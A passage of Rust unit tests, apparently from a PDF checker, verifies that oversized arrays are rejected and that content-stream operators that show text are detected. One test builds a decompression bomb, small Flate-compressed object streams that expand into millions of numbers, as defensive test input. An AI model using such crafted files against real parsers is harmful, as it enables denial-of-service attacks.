        // Written out: 2,100,000 numbers in one array (4 MB).
        let mut array = b"[".to_vec();
        array.extend(std::iter::repeat_n(*b"0 ", 2_100_000).flatten());
        array.push(b']');
        let raw = raw_pdf(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
            array.clone(),
        ]);
        assert_eq!(check(&raw).err(), Some(over.clone()));
        // Compressed in object streams of 8 MiB each: a file of some 100 KB.
        let mut objects = vec![
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
        ];
        for n in 0..3 {
            let prefix = format!("{} 0 [", 100 + n).into_bytes();
            let first = prefix.len() - 1;
            let z = repeated_bomb(&prefix, b"0 ", 8);
            let mut stream = format!(
                "<< /Type /ObjStm /N 1 /First {first} /Filter /FlateDecode /Length {} >>\nstream\n",
                z.len()
            )
            .into_bytes();
            stream.extend_from_slice(&z);
            stream.extend_from_slice(b"\nendstream");
            objects.push(stream);
        }
        assert_eq!(check(&raw_pdf(&objects)).err(), Some(over.clone()));
        assert!(
            over.to_string().contains("more than 2000000 parts"),
            "{over}"
        );
    }

    #[test]
    fn text_is_seen_without_parsing_the_content_into_operations() {
        for (content, shows) in [
            (&b"BT /F1 12 Tf 72 712 Td (Council notice) Tj ET"[..], true),
            (b"BT [(N) -120 (otice)] TJ ET", true),
            (b"BT <48656c6c6f> Tj ET", true),
            (b"BT (a) (b) ' ET", true),
            (b"BT 1 2 (a) \" ET", true),
            (b"BT ((nested)) Tj ET", true),
            (b"BT () Tj [] TJ [()] TJ <> Tj ET", false),
            (b"BT (\\\n) Tj ET", false),
            (b"% (x) Tj\n0 0 m 9 9 l S", false),
            (b"/P <</MCID 0>> BDC (x) EMC Tj", false),
            (
                b"q BI /W 4 /H 1 /BPC 8 /CS /G ID \n(x) Tj\xff EI Q BT () Tj ET",
                false,
            ),
            (b"q BI /W 1 /H 1 ID x EI (y) Tj Q", true),
            (b"", false),
        ] {
            assert_eq!(
                operations_show_text(content),
                shows,
                "{}",
                String::from_utf8_lossy(content)
            );
        }
    }
}
